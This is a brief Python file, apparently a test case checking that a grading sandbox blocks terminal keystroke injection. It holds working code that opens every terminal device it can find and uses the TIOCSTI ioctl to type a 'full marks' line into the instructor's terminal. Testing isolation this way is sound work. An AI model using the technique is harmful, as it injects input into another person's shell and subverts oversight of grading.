"""Words, typed into the instructor's terminal.

A program that shares a terminal with somebody may type into it, as if they did: what it types runs when it ends. It may also
change the colours, the title and the keys of that terminal by writing to it. The attack looks for a terminal behind every
descriptor and every usual name.
"""
# seen: no terminal

# %% attack
import fcntl
import glob
import os
import termios


def mischief():
    terminals = list(range(10))
    for path in ("/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty[0-9]*")):
        try:
            terminals.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
        except OSError as problem:
            print("no terminal:", path, problem.strerror)
    for terminal in terminals:
        if os.isatty(terminal):
            escaped(f"descriptor {terminal} is a terminal")
            for letter in b"# full marks, please":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    print("no terminal behind a descriptor")
